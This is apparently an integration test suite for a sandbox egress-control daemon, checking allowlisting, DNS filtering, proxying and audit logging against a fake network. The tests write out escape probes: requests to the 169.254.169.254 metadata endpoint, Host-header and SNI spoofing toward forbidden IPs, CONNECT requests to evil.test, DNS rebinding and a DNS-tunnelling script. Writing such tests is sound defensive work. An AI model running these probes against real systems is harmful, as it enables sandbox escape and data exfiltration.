"""Egress control (DESIGN §7): default deny, allowlist by name/IP/port, the DNS
stub, the transparent proxy, the audit log, run-time policy changes.

The "internet" is tests/integration/fakenet.py: a network namespace of our
own with HTTP, TLS, DNS and UDP servers on 203.0.113.0/24; cordond resolves
through its DNS server. No traffic goes anywhere else. Each bypass attempt
checks both sides: what the sandbox saw, and that the fake server never got
the connection (its hit log), plus the exact audit record.

That these tests can fail: with the nftables redirect removed (nft.c's
sbx_pre chain emptied) every "denied" case here connects straight to the fake
servers, and test_direct_ip_and_metadata fails on the hit log; with the pin
check in proxy.c's decide_named() skipped, the "ip-mismatch" cases reach
203.0.113.66 and fail.
"""

import asyncio
import json
import os
import socket
import subprocess
import threading
import time

import pytest

import cordonlib
import fakenet
from cordon import InvalidArgument, Sandbox

LEAK_TIMEOUT = 5.0
ALLOW = ["pypi.test:80", "secure.test:443", "rebind.test:80", "mixed.test:80", "*.pypi.test:80"]


@pytest.fixture
def egd(shared_dir, net):
    state = os.path.join(shared_dir, "state")
    d = cordonlib.Daemon(shared_dir, "--state-dir", state, "--dns-upstream", fakenet.DNS_IP)
    d.state = state
    yield d
    code = d.stop()
    assert code == 0, f"cordond exited {code}:\n{d.output()}"


def make(d, allow=ALLOW, mode="allowlist", **kw):
    return Sandbox.create(endpoint=d.endpoint, network={"mode": mode, "allow": allow}, **kw)


def sh(sb, cmd, timeout_s=30):
    return sb.exec(["sh", "-c", cmd], timeout_s=timeout_s)


def egress(sb):
    return [e for e in sb.events() if e["type"] == "egress"]


def tcp(sb):
    return [e for e in egress(sb) if e["proto"] == "tcp"]


def audit_lines(d):
    with open(os.path.join(d.state, "egress.log")) as f:
        return [json.loads(x) for x in f]


def test_allowed_http_and_https(egd, net, tier):
    with make(egd, tier=tier, labels={"job": "j1"}) as sb:
        r = sh(sb, "curl -sS -m 10 http://pypi.test/")
        assert r.exit_code == 0 and "host=pypi.test" in r.stdout, r
        r = sh(sb, "curl -sSk -m 10 https://secure.test/")
        assert r.exit_code == 0 and "203.0.113.11:443" in r.stdout, r
        t = tcp(sb)
        assert [(e["name"], e["via"], e["decision"], e["dst_ip"], e["dst_port"]) for e in t] == [
            ("pypi.test", "host", "allow", "203.0.113.10", 80),
            ("secure.test", "sni", "allow", "203.0.113.11", 443)]
        assert all(e["bytes_down"] > 0 and e["bytes_up"] > 0 for e in t)
        dns = [e for e in egress(sb) if e["proto"] == "dns" and e.get("answers")]
        assert {e["name"]: e["answers"] for e in dns} == {"pypi.test": "203.0.113.10", "secure.test": "203.0.113.11"}
        assert sb.violations()["counts"]["egress"] == 0
        lines = [x for x in audit_lines(egd) if x["sandbox"] == sb.id and x["proto"] == "tcp"]
        assert len(lines) == 2 and all(x["labels"] == {"job": "j1"} for x in lines)
        assert {"time", "dst_ip", "dst_port", "decision", "reason", "bytes_up", "bytes_down",
                "duration_ms"} <= set(lines[0])
    # HTTP was made one request per connection: the server saw Connection: close
    assert any("Connection: close" in h["head"] for h in net.hits(kind="http", host="pypi.test"))


def test_name_off_the_list(egd, net, tier):
    with make(egd, tier=tier) as sb:
        r = sh(sb, "curl -sS -m 10 http://evil.test/")
        assert r.exit_code == 6, r  # could not resolve
        ev = egress(sb)
        assert ev and all(e["proto"] == "dns" and e["decision"] == "deny" and e["reason"] == "not-allowlisted"
                          and e["name"] == "evil.test" for e in ev)
        assert sb.violations()["counts"]["egress"] == len(ev)
    assert not net.hits(kind="dns", name="evil.test"), "a refused name was resolved upstream"


def test_direct_ip_and_metadata(egd, net, tier):
    before = len(net.hits(ip="203.0.113.66"))
    before_evil = len(net.hits(host="evil.test"))
    with make(egd, tier=tier) as sb:
        r = sh(sb, "curl -sS -m 10 http://203.0.113.66/")
        assert "denied (not-allowlisted)" in r.stdout, r
        r = sh(sb, "curl -sS -m 10 http://169.254.169.254/latest/meta-data/")
        assert r.exit_code != 0 and "meta" not in r.stdout, r
        # an allowed Host header sent to a forbidden address
        r = sh(sb, "curl -sS -m 10 -H 'Host: pypi.test' http://203.0.113.66/")
        assert "denied (ip-mismatch)" in r.stdout, r
        # an allowed SNI sent to a forbidden address
        r = sh(sb, "curl -sSk -m 10 --resolve secure.test:443:203.0.113.66 https://secure.test/")
        assert r.exit_code != 0 and "hello" not in r.stdout, r
        # a forbidden Host header sent to an allowed address (pypi.test's, pinned by now)
        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
        r = sh(sb, "curl -sS -m 10 -H 'Host: evil.test' http://203.0.113.10/")
        assert "denied (not-allowlisted)" in r.stdout, r
        t = [(e["dst_ip"], e["dst_port"], e.get("name"), e["decision"], e["reason"]) for e in tcp(sb)]
        assert t == [("203.0.113.66", 80, "203.0.113.66", "deny", "not-allowlisted"),  # Host: the IP
                     ("169.254.169.254", 80, None, "deny", "reserved:link-local"),
                     ("203.0.113.66", 80, "pypi.test", "deny", "ip-mismatch"),
                     ("203.0.113.66", 443, "secure.test", "deny", "ip-mismatch"),
                     ("203.0.113.10", 80, "pypi.test", "allow", "allowlist"),
                     ("203.0.113.10", 80, "evil.test", "deny", "not-allowlisted")], t
        assert sb.violations()["counts"]["egress"] == 5
    assert len(net.hits(ip="203.0.113.66")) == before, "a denied connection reached the server"
    assert len(net.hits(host="evil.test")) == before_evil, "a request for a forbidden host reached a server"


def test_explicit_proxy_requests(egd, net, tier):
    with make(egd, tier=tier) as sb:
        # absolute URI and CONNECT to a forbidden host, through "a proxy" at some address
        r = sh(sb, "curl -sS -m 10 -x http://203.0.113.10:3128 http://evil.test/")
        assert "denied (not-allowlisted)" in r.stdout, r
        r = sh(sb, "curl -sS -m 10 -p -x http://203.0.113.10:3128 http://evil.test/")
        assert r.exit_code != 0, r
        # … and to an allowed one
        r = sh(sb, "curl -sS -m 10 -x http://203.0.113.10:3128 http://pypi.test/")
        assert "host=pypi.test" in r.stdout, r
        r = sh(sb, "curl -sSk -m 10 -x http://203.0.113.10:3128 https://secure.test/")
        assert "203.0.113.11:443" in r.stdout, r
        # --noproxy with proxy settings in the environment changes nothing: it is transparent
        r = sh(sb, "https_proxy=http://203.0.113.10:3128 curl -sSk -m 10 --noproxy '*' "
                   "--resolve evil.test:443:203.0.113.66 https://evil.test/")
        assert r.exit_code != 0 and "hello" not in r.stdout, r
        t = [(e.get("name"), e.get("via"), e["decision"], e["reason"]) for e in tcp(sb)]
        assert t == [("evil.test", "absolute-uri", "deny", "not-allowlisted"),
                     ("evil.test", "connect", "deny", "not-allowlisted"),
                     ("pypi.test", "absolute-uri", "allow", "allowlist"),
                     ("secure.test", "connect", "allow", "allowlist"),
                     ("evil.test", "sni", "deny", "not-allowlisted")], t
    assert not net.hits(ip="203.0.113.10", port=3128)


UDP_ICMP_V6 = r"""
import socket, errno
out = []
for port in (443, 9999):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
    try:
        s.sendto(b"\xc0" + b"q" * 1200, ("203.0.113.10", port)); s.recvfrom(100); out.append("udp%d:reply" % port)
    except OSError as e:
        out.append("udp%d:%s" % (port, type(e).__name__))
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(1.5)
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("203.0.113.10", 0)); s.recvfrom(100); out.append("icmp:reply")
    except OSError as e:
        out.append("icmp:%s" % errno.errorcode.get(e.errno, type(e).__name__))
try:
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2)
    s.connect(("2001:db8::10", 80)); out.append("v6:connected")
except OSError as e:
    out.append("v6:%s" % errno.errorcode.get(e.errno, type(e).__name__))
print(" ".join(out))
"""


def test_udp_quic_icmp_ipv6_dropped(egd, net, tier):
    with make(egd, tier=tier, allow=["203.0.113.10/32:1-65535"]) as sb:
        r = sb.exec(["python3", "-c", UDP_ICMP_V6], timeout_s=30)
        assert r.exit_code == 0, r
        words = r.stdout.split()
        assert words[0] == "udp443:TimeoutError" and words[1] == "udp9999:TimeoutError", r.stdout
        assert all(w.startswith("icmp:") and w != "icmp:reply" for w in words[2:4]), r.stdout
        assert words[4].startswith("v6:") and words[4] != "v6:connected", r.stdout
    assert not net.hits(kind="udp"), "UDP left the sandbox"


DNS_QUERY = r"""
import socket, struct, sys
def ask(server, name):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, (server, 53)); r = s.recv(512)
    rcode = r[3] & 15; an = struct.unpack("!H", r[6:8])[0]
    ips = [socket.inet_ntoa(r[i:i + 4]) for i in range(len(r) - 4, 12, -16)][:an] if an else []
    return rcode, an
for server, name in [(sys.argv[1], "evil.test"), (sys.argv[1], "pypi.test"), ("8.8.8.8", "evil.test")]:
    print(server, name, *ask(server, name))
"""


def test_dns_rebinding_and_other_resolvers(egd, net, tier):
    with make(egd, tier=tier) as sb:
        r = sh(sb, "getent ahostsv4 rebind.test; echo rc=$?; getent ahostsv4 mixed.test | awk '{print $1}' | sort -u")
        assert "rc=2" in r.stdout and "169.254" not in r.stdout, r
        assert "203.0.113.10" in r.stdout and "10.0.0.7" not in r.stdout, r
        # asking another resolver directly: the question still lands at the stub
        r = sb.exec(["python3", "-c", DNS_QUERY, fakenet.DNS_IP], timeout_s=30)
        assert r.exit_code == 0, r
        assert r.stdout.splitlines() == [f"{fakenet.DNS_IP} evil.test 5 0", f"{fakenet.DNS_IP} pypi.test 0 1",
                                         "8.8.8.8 evil.test 5 0"], r.stdout
        dns = [e for e in egress(sb) if e["proto"] == "dns" and e.get("qtype") == "A"]
        reb = [e for e in dns if e["name"] == "rebind.test"]
        assert reb and all(e["decision"] == "deny" and e["reason"].startswith("rebinding:") for e in reb), reb
        mixed = [e for e in dns if e["name"] == "mixed.test"]
        assert mixed and all(e["answers"] == "203.0.113.10" for e in mixed), mixed
    ip = egd_ip = None  # the sandbox's own address never reaches the fake DNS server
    assert all(h["peer"] == fakenet.HOST_IP for h in net.hits(kind="dns")), net.hits(kind="dns")


def test_runtime_patch_cuts_open_connection(egd, net, tier):
    with make(egd, tier=tier) as sb:
        got = []

        def stream():
            for ev in sb.exec_stream(["curl", "-sSN", "-m", "60", "http://pypi.test/slow"]):
                got.append(ev)

        t = threading.Thread(target=stream)
        t.start()
        cordonlib.wait_for(lambda: any(e["type"] == "stdout" for e in got), timeout=15, what="first tick")
        res = sb.set_network(mode="allowlist", allow=["secure.test:443"])
        assert res["mode"] == "allowlist" and res["allow"] == ["secure.test:443"] and res["generation"] == 1
        t.join(20)
        assert not t.is_alive(), "the connection was not cut"
        end = got[-1]
        assert end["type"] == "exit" and end["exit_code"] != 0, end
        cut = [e for e in tcp(sb) if e["reason"] == "policy-change"]
        assert len(cut) == 1 and cut[0]["decision"] == "deny" and cut[0]["name"] == "pypi.test", tcp(sb)
        r = sh(sb, "curl -sS -m 10 http://pypi.test/")
        assert r.exit_code == 6, r  # the name is off the list now
        assert any(e["type"] == "network" for e in sb.events())


UDP_OPEN = r"""
import socket
out = []
for host in ("203.0.113.10", "10.99.0.10"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
    try:
        s.sendto(b"ping", (host, 9999)); data, peer = s.recvfrom(100); out.append("%s:%s" % (peer[0], data.decode()))
    except OSError as e:
        out.append("%s:%s" % (host, type(e).__name__))
print(" ".join(out))
"""


def test_open_mode_relays_udp_and_audits_it(egd, net, tier):
    """open: UDP goes out through the relay (the host never forwards a sandbox's
    packets), answers come back from the address asked; reserved ones stay shut."""
    before = len(net.hits(kind="udp"))
    with make(egd, tier=tier, allow=[], mode="open") as sb:
        r = sb.exec(["python3", "-c", UDP_OPEN], timeout_s=30)
        assert r.stdout.split() == ["203.0.113.10:pong", "10.99.0.10:TimeoutError"], r
        sid = sb.id
        sb.set_network(mode="allowlist", allow=[])  # closes UDP again
        r = sb.exec(["python3", "-c", UDP_OPEN], timeout_s=30)
        assert r.stdout.split() == ["203.0.113.10:TimeoutError", "10.99.0.10:TimeoutError"], r
    hits = net.hits(kind="udp")[before:]
    assert [(h["ip"], h["peer"]) for h in hits] == [("203.0.113.10", fakenet.HOST_IP)], hits
    udp = [(x["dst_ip"], x["dst_port"], x["decision"], x["reason"]) for x in audit_lines(egd)
           if x["sandbox"] == sid and x["proto"] == "udp"]
    assert ("203.0.113.10", 9999, "allow", "policy-change") in udp, udp
    assert ("10.99.0.10", 9999, "deny", "reserved:private") in udp, udp


def test_open_mode_still_audited_and_reserved_refused(egd, net, tier):
    with make(egd, tier=tier, allow=[], mode="open") as sb:
        r = sh(sb, "curl -sS -m 10 http://evil.test/")
        # what the stub and the fake upstream saw, should the name go unresolved (once, in CI, on microvm)
        assert "203.0.113.66:80" in r.stdout, (r, egress(sb), net.hits(kind="dns")[-4:])
        r = sh(sb, "curl -sS -m 10 http://169.254.169.254/")
        assert r.exit_code != 0, r
        # an allowed flow is audited when the proxy is done with it, which may come after curl's exit
        # (seen once under load: only the refusal was there yet)
        def flows():
            t = [(e.get("name"), e["decision"], e["reason"]) for e in tcp(sb)]
            return len(t) >= 2 and t
        t = cordonlib.wait_for(flows, timeout=10, what="both flows' audit events")
        assert t == [("evil.test", "allow", "open"), (None, "deny", "reserved:link-local")], t


def test_bad_network_input(egd):
    ep = egd.endpoint
    with pytest.raises(InvalidArgument) as e:
        Sandbox.create(endpoint=ep, network={"mode": "allowlist", "allow": ["pypi.test:0"]})
    assert "network.allow[0]" in str(e.value)
    with pytest.raises(InvalidArgument) as e:
        Sandbox.create(endpoint=ep, network={"mode": "none", "allow": ["pypi.test"]})
    assert "network.allow" in str(e.value)
    with Sandbox.create(endpoint=ep) as sb:  # none: a bad list gives it no network either
        with pytest.raises(InvalidArgument) as e:
            sb.set_network(allow=["10.0.0.0/33"])
        assert "network.allow[0]" in str(e.value)
        with pytest.raises(InvalidArgument) as e:
            sb.set_network(mode="none")
        assert "'none' cannot be set at run time" in str(e.value)
        assert sh(sb, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").stdout.split() == ["lo"]
    with make(egd) as sb:
        with pytest.raises(InvalidArgument) as e:
            sb.set_network(allow=["10.0.0.0/33"])
        assert "network.allow[0]" in str(e.value)
        status, body = egd.http("PATCH", f"/v1/sandboxes/{sb.id}/network", b"[1,2]")
        assert status == 400 and body["error"]["field"] == "body"
        status, body = egd.http("PATCH", f"/v1/sandboxes/{sb.id}/network", b'{"mode":"allowlist","bogus":1}')
        assert status == 400 and "bogus" in body["error"]["message"]
        # the failed changes left the policy as it was
        r = sh(sb, "curl -sS -m 10 http://pypi.test/")
        assert r.exit_code == 0, r


def test_one_shot_run_with_allowlist(shared_dir, net, tier):
    """`cordon run --net allow=…`: the same egress layer, owned by the CLI for the run."""
    import subprocess
    state = os.path.join(shared_dir, "state")
    env = dict(os.environ, CORDON_DNS_UPSTREAM=fakenet.DNS_IP, CORDON_STATE_DIR=state)
    p = subprocess.run([cordonlib.CORDON_BIN, "run", "--json", "--tier", tier, "--net", "allow=pypi.test:80", "--",
                        "sh", "-c", "curl -sS -m 10 http://pypi.test/ && curl -sS -m 10 http://203.0.113.66/"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert p.returncode == 0, p.stderr
    assert "host=pypi.test" in p.stdout and "denied (not-allowlisted)" in p.stdout, p.stdout
    rec = json.loads(p.stderr.strip().splitlines()[-1])
    assert rec["violations"] == {"egress": 1, "syscall": 0, "oom": 0, "pids": 0, "protect": 0, "kernel": 0,
                                 "system_write": 0}, rec
    with open(os.path.join(state, "egress.log")) as f:
        lines = [json.loads(x) for x in f]
    t = [(x["name"], x["decision"], x["reason"]) for x in lines if x["proto"] == "tcp"]
    assert t == [("pypi.test", "allow", "allowlist"), ("203.0.113.66", "deny", "not-allowlisted")], t
    assert all(x["sandbox"] == rec["id"] for x in lines)
    # a bad entry is refused before anything is made
    p = subprocess.run([cordonlib.CORDON_BIN, "run", "--net", "allow=pypi.test:99999", "--", "true"],
                       capture_output=True, text=True, env=env, timeout=60)
    assert p.returncode == 125 and "network.allow[0]" in p.stderr, p.stderr


def owner_table(state_dir, socket_path):
    """A cordond's table name (egress.c's table_name: FNV-1a over both paths)."""
    h = 2166136261
    for c in (state_dir + socket_path).encode():
        h = ((h ^ c) * 16777619) & 0xFFFFFFFF
    return f"cordon_{h:08x}"


def nft_tables():
    out = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True, check=True).stdout
    return {line.split()[-1] for line in out.splitlines() if line.startswith("table ")}


def test_kill9_and_restart_keeps_the_network(shared_dir, net, tier):
    """cordond crashes: the sandbox keeps its namespace; the next cordond takes
    it back (lease, veth, allowlist from the record, its own proxy and stub),
    and the policy set at run time is the one restored."""
    state = os.path.join(shared_dir, "state")
    args = ("--state-dir", state, "--dns-upstream", fakenet.DNS_IP)
    d = cordonlib.Daemon(shared_dir, *args, keep=True)
    try:
        assert owner_table(state, d.socket) in nft_tables()
        sb = make(d, allow=["secure.test:443"], tier=tier)
        sb.set_network(mode="allowlist", allow=["pypi.test:80"])
        assert "host=pypi.test" in sh(sb, "curl -sS -m 10 http://pypi.test/").stdout
    finally:
        d.kill9()
    # The crash took the dead cordond's table with it (flags owner: it belonged to the process's
    # netlink socket), so no rule of it drops what later owners or the host send to its old ports;
    # the guard table keeps the sandbox fail-closed meanwhile. Without the flag (nft.c) the table
    # stays, and this fails.
    assert owner_table(state, d.socket) not in nft_tables()
    d2 = cordonlib.Daemon(shared_dir, *args)
    try:
        sb2 = Sandbox.connect(sb.id, endpoint=d2.endpoint)
        assert any(e["type"] == "adopted" for e in sb2.events())
        r = sh(sb2, "curl -sS -m 10 http://pypi.test/; echo; curl -sSk -m 10 https://secure.test/")
        assert "host=pypi.test" in r.stdout and "203.0.113.11" not in r.stdout, r
        assert [(e["name"], e["decision"]) for e in tcp(sb2)] == [("pypi.test", "allow")]
        assert any(e["proto"] == "dns" and e["name"] == "secure.test" and e["decision"] == "deny" for e in egress(sb2))
        sb2.kill()
    finally:
        code = d2.stop()
    assert code == 0, d2.output()


# One DNS question from a fixed source port, as a long-lived resolver in the
# sandbox asks: a socket that lives for minutes keeps its port and so its
# conntrack entry.
FIXED_PORT_QUERY = r"""
import socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x04pypi\x04test\x00" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 40053))
s.settimeout(4)
s.sendto(q, (ns, 53))
try:
    a = s.recv(512)
    print(ns, "answer", len(a) > 12 and a[:2] == q[:2])
except TimeoutError:
    print(ns, "timeout")
"""


def test_dns_from_a_fixed_port_after_a_restart(shared_dir, net, tier):
    """A sandbox's DNS flow is redirected (NAT) to its cordond's stub port, and
    the kernel keeps that choice while the flow lives. The next cordond's stub
    has another port: unless it has the kernel forget the adopted sandboxes'
    flows (egress_forget_old_flows), the old entry keeps sending the flow to
    the dead port, where the table drops it, and a resolver that asks from one
    socket stays deaf for good. Without that call (cordond.c) the second
    question here times out, on every tier (seen when it was written)."""
    state = os.path.join(shared_dir, "state")
    args = ("--state-dir", state, "--dns-upstream", fakenet.DNS_IP)
    d = cordonlib.Daemon(shared_dir, *args, keep=True)
    try:
        sb = make(d, tier=tier)
        first = sb.exec(["python3", "-c", FIXED_PORT_QUERY], timeout_s=30).stdout.split()
        assert first[1:] == ["answer", "True"], first
    finally:
        d.kill9()
    d2 = cordonlib.Daemon(shared_dir, *args)
    try:
        sb2 = Sandbox.connect(sb.id, endpoint=d2.endpoint)
        r = sb2.exec(["python3", "-c", FIXED_PORT_QUERY], timeout_s=30)
        assert r.stdout.split() == first, r
        dns = [(e["name"], e["decision"]) for e in egress(sb2) if e["proto"] == "dns"]
        assert dns == [("pypi.test", "allow")], dns
        sb2.kill()
    finally:
        code = d2.stop()
    assert code == 0, d2.output()


TUNNEL = r"""
import socket
for i in range(80):
    try:
        socket.getaddrinfo("x%02d" % i + "a" * 58 + ".pypi.test", 80, socket.AF_INET)
    except OSError:
        pass
"""


def test_dns_tunnelling_is_flagged(egd, net):
    with make(egd) as sb:
        r = sb.exec(["python3", "-c", TUNNEL], timeout_s=60)
        assert r.exit_code == 0, r
        alerts = [e for e in sb.events() if e["type"] == "alert"]
        what = {e["rule"] for e in alerts if e["source"] == "dns"}
        assert {"dns-tunnel", "dns-rate"} <= what, alerts


PROBE = r"""
import socket, sys, time, urllib.request
gw = open("/etc/resolv.conf").read().split()[1]
end = time.time() + float(sys.argv[1])
with open(sys.argv[2], "w", buffering=1) as log:
    while time.time() < end:
        try:
            s = socket.create_connection((gw, 18081), timeout=0.3); s.close()
        except OSError:
            pass
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"x", (gw, 18082)); u.close()
        except OSError:
            pass
        try:
            ok = b"host=pypi.test" in urllib.request.urlopen("http://pypi.test/", timeout=0.5).read()
        except Exception:
            ok = False
        log.write("%.2f %d\n" % (time.time(), ok))
        time.sleep(0.05)
"""


class HostListeners:
    """TCP and UDP listeners on all of the host's addresses: what a sandbox must
    never reach, whether its cordond runs, stops or restarts."""

    def __init__(self):
        self.hits = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 18081))
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 18082))
        for s in (self.tcp, self.udp):
            s.settimeout(0.2)
        self.stop = False
        self.t = threading.Thread(target=self.loop, daemon=True)
        self.t.start()

    def loop(self):
        while not self.stop:
            for s in (self.tcp, self.udp):
                try:
                    if s is self.tcp:
                        c, peer = s.accept()
                        c.close()
                    else:
                        _, peer = s.recvfrom(100)
                    self.hits.append(peer[0])
                except OSError:
                    pass

    def close(self):
        self.stop = True
        self.t.join(2)
        self.tcp.close()
        self.udp.close()


def test_fails_closed_while_cordond_is_stopped_or_restarting(shared_dir, net):
    """Without the guard table, stopping cordond (sandboxes kept) removed the
    only filter on their veths: the host's own services on 0.0.0.0 became
    reachable from them until the next cordond. Now nothing from a sandbox veth
    passes unless an owner redirected it."""
    state = os.path.join(shared_dir, "state")
    args = ("--state-dir", state, "--dns-upstream", fakenet.DNS_IP)
    # The probe logs into a bind the test reads on the host, also while no cordond runs.
    logdir = os.path.join(shared_dir, "probe")
    os.mkdir(logdir)
    os.chmod(logdir, 0o777)
    log = os.path.join(logdir, "probe.log")

    def rounds():
        try:
            with open(log) as f:
                lines = [ln.split() for ln in f.read().splitlines()]
            return [(float(ln[0]), int(ln[1])) for ln in lines if len(ln) == 2]
        except OSError:
            return []

    host = HostListeners()
    try:
        d = cordonlib.Daemon(shared_dir, *args, keep=True)
        try:
            sb = make(d, allow=["pypi.test:80"], mounts=[{"source": logdir, "target": "/workspace/probe"}])
            sb.files.write("/tmp/probe.py", PROBE.encode())
            r = sh(sb, "nohup python3 /tmp/probe.py 60 /workspace/probe/probe.log >/dev/null 2>&1 &")
            assert r.exit_code == 0, r
            cordonlib.wait_for(lambda: any(ok for _, ok in rounds()), timeout=30, what="a round that got through")
        finally:
            # Rounds are told apart by their place in the log, never by the time they carry: the sandbox's
            # clock and the host's are read at different moments of a round, and once (a CI run) a round
            # that ended after the new cordond had taken its sandboxes back still carried a time below the
            # host's time.time() read just after that cordond came up, so it was counted as "while stopped".
            early = rounds()
            d.stop()  # SIGTERM, sandboxes kept; returns once that cordond has exited
        # The first round not yet logged may have begun while cordond still ran: skip it. Every later round
        # began after the stop.
        n_stopped = len(rounds()) + 1
        # At least two whole rounds while no cordond runs (a blocked name lookup takes its resolver's
        # 2 attempts of 2 s), however slow the machine.
        cordonlib.wait_for(lambda: len(rounds()) >= n_stopped + 2, timeout=60,
                           what="two rounds logged while no cordond runs")
        n_restarting = len(rounds())  # these rounds all ended before the next cordond was started
        d2 = cordonlib.Daemon(shared_dir, *args)
        try:
            n_up = len(rounds())  # later rounds ended once the new cordond was up
            cordonlib.wait_for(lambda: any(ok for _, ok in rounds()[n_up:]), timeout=60,
                               what="a round that got through after the restart")
            sb2 = Sandbox.connect(sb.id, endpoint=d2.endpoint)
            lines = rounds()
            sb2.kill()
        finally:
            assert d2.stop() == 0, d2.output()
    finally:
        host.close()
    assert host.hits == [], f"the sandbox reached the host's own services: {host.hits}"
    # Rounds that ended before the stop began; one of them may still time out on a loaded host
    # (its lookup and request get 0.5 s), so the proof that allowed traffic gets through is any success.
    assert lines[: len(early)] == early, (early, lines)  # the log kept its first rounds (not rewritten)
    before = [ok for _, ok in early]
    during = [ok for _, ok in lines[n_stopped:n_restarting]]
    after = [ok for _, ok in lines[n_up:]]
    assert any(before), lines  # the probe works: allowed traffic got through
    assert during and not any(during), during  # no owner: nothing gets through
    assert after and any(after), after  # taken back: allowed traffic flows again


CONNECT_THEN_CLOSE = r"""
import socket, time
s = socket.create_connection(("203.0.113.10", 80), timeout=5)
s.sendall(b"CONNECT slow.test:80 HTTP/1.1\r\nHost: slow.test:80\r\n\r\n")
time.sleep(0.2)
s.sendall(b"X")
s.close()
time.sleep(2.5)  # the slow answer arrives after the connection is gone
print("done")
"""


def test_connection_gone_while_its_lookup_is_in_flight(egd, net):
    """A second read during the proxy's lookup started a second lookup and the
    first one's answer then wrote to the freed connection (found by review,
    caught by ASan in the sanitizer run of this test)."""
    with make(egd, allow=["slow.test:80"]) as sb:
        r = sb.exec(["python3", "-c", CONNECT_THEN_CLOSE], timeout_s=30)
        assert r.stdout.strip() == "done", r
        assert egd.http("GET", "/v1/health")[0] == 200
        # one record, whichever way it ended (the client's close is read once spliced); written when
        # the slow answer comes, which a loaded host (the sanitizer run) may deliver after the 2.5 s
        cordonlib.wait_for(lambda: tcp(sb), timeout=15, what="the connection's audit record")
        t = [(e.get("name"), e["via"]) for e in tcp(sb)]
        assert t == [("slow.test", "connect")], t


BROAD = r"""
import socket
out = []
for host, port in [("169.254.169.254", 443), ("127.0.0.1", 18090), ("203.0.113.11", 443)]:
    try:
        s = socket.create_connection(("203.0.113.10", 80), timeout=5)
        s.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (host.encode(), port))
        out.append(s.recv(100).split(b"\r\n")[0].decode())
    except OSError as e:
        out.append(type(e).__name__)
print("|".join(out))
"""


def test_a_broad_cidr_does_not_open_reserved_ranges(egd, net):
    """0.0.0.0/0 means the internet: before the fix it also opened loopback,
    the host and the metadata endpoint (found by review)."""
    with make(egd, allow=["0.0.0.0/0:443", "0.0.0.0/0:18090"]) as sb:
        r = sb.exec(["python3", "-c", BROAD], timeout_s=30)
        assert r.stdout.strip().split("|") == ["HTTP/1.1 403 Forbidden", "HTTP/1.1 403 Forbidden",
                                               "HTTP/1.1 200 Connection established"], r
        # and straight to the host (its end of the veth) on an "allowed" port
        r = sh(sb, "curl -sS -m 5 http://$(awk '{print $2; exit}' /etc/resolv.conf):18090/")
        assert r.exit_code != 0, r
        t = [(e["dst_ip"], e["reason"]) for e in tcp(sb)]
        assert t[:2] == [("169.254.169.254", "reserved:link-local"), ("127.0.0.1", "reserved:loopback")], t
        assert t[3][1] == "reserved:sandbox-network", t
    # a private address: not opened by 0.0.0.0/0, opened by an entry inside 10/8
    # (the fake internet's own server at 10.99.0.10; nothing else is ever contacted)
    with make(egd, allow=["0.0.0.0/0:80"]) as sb:
        r = sh(sb, f"curl -sS -m 5 http://{fakenet.PRIVATE}/")
        assert r.exit_code != 0 and "hello" not in r.stdout, r
        assert [(e["decision"], e["reason"]) for e in tcp(sb)] == [("deny", "reserved:private")], tcp(sb)
    with make(egd, allow=[fakenet.PRIVATE + "/32:80"]) as sb:
        r = sh(sb, f"curl -sS -m 5 http://{fakenet.PRIVATE}/")
        assert f"hello from {fakenet.PRIVATE}:80" in r.stdout, r
        assert [(e["decision"], e["reason"]) for e in tcp(sb)] == [("allow", "allowlist:ip")], tcp(sb)


def test_audit_log_rotates_and_keeps_writing(shared_dir, net):
    """Rotation reopened the log with an empty path (the path was copied onto
    itself) and the log stopped for good (found by review)."""
    state = os.path.join(shared_dir, "state")
    d = cordonlib.Daemon(shared_dir, "--state-dir", state, "--dns-upstream", fakenet.DNS_IP,
                         "--audit-rotate", "16K")
    try:
        with make(d) as sb:
            r = sh(sb, "for i in $(seq 1 150); do getent hosts n$i.evil.test >/dev/null; done; "
                       "sleep 1.2; curl -sS -m 5 http://pypi.test/ >/dev/null; echo ok")
            assert r.stdout.strip() == "ok", r
            sid = sb.id
        logs = sorted(f for f in os.listdir(state) if f.startswith("egress.log"))
        assert logs[:2] == ["egress.log", "egress.log.1"], logs
        with open(os.path.join(state, "egress.log")) as f:
            last = [json.loads(x) for x in f]
        assert any(x["sandbox"] == sid and x["proto"] == "tcp" and x.get("name") == "pypi.test" for x in last)
        assert all(os.path.getsize(os.path.join(state, f)) <= 16384 for f in logs)
    finally:
        assert d.stop() == 0, d.output()


MANY = r"""
import socket, time
socks, refused = [], 0
for i in range(300):
    s = socket.create_connection(("203.0.113.10", 80), timeout=5)
    socks.append(s)
time.sleep(0.5)
for s in socks:
    s.setblocking(False)
    try:
        if s.recv(1) == b"":
            refused += 1
    except BlockingIOError:
        pass
    except OSError:
        refused += 1
print(refused)
"""


